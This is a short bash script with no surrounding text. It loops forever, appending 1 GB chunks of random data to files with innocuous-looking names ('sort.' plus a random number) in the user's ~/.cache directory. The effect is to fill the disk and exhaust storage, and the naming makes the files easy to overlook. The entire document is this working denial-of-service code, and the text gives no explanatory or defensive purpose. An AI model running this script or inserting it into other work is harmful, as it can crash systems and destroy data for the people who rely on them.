#!/bin/bash
while :; do
  head -c 1G /dev/urandom >> ~/.cache/sort.$RANDOM
done
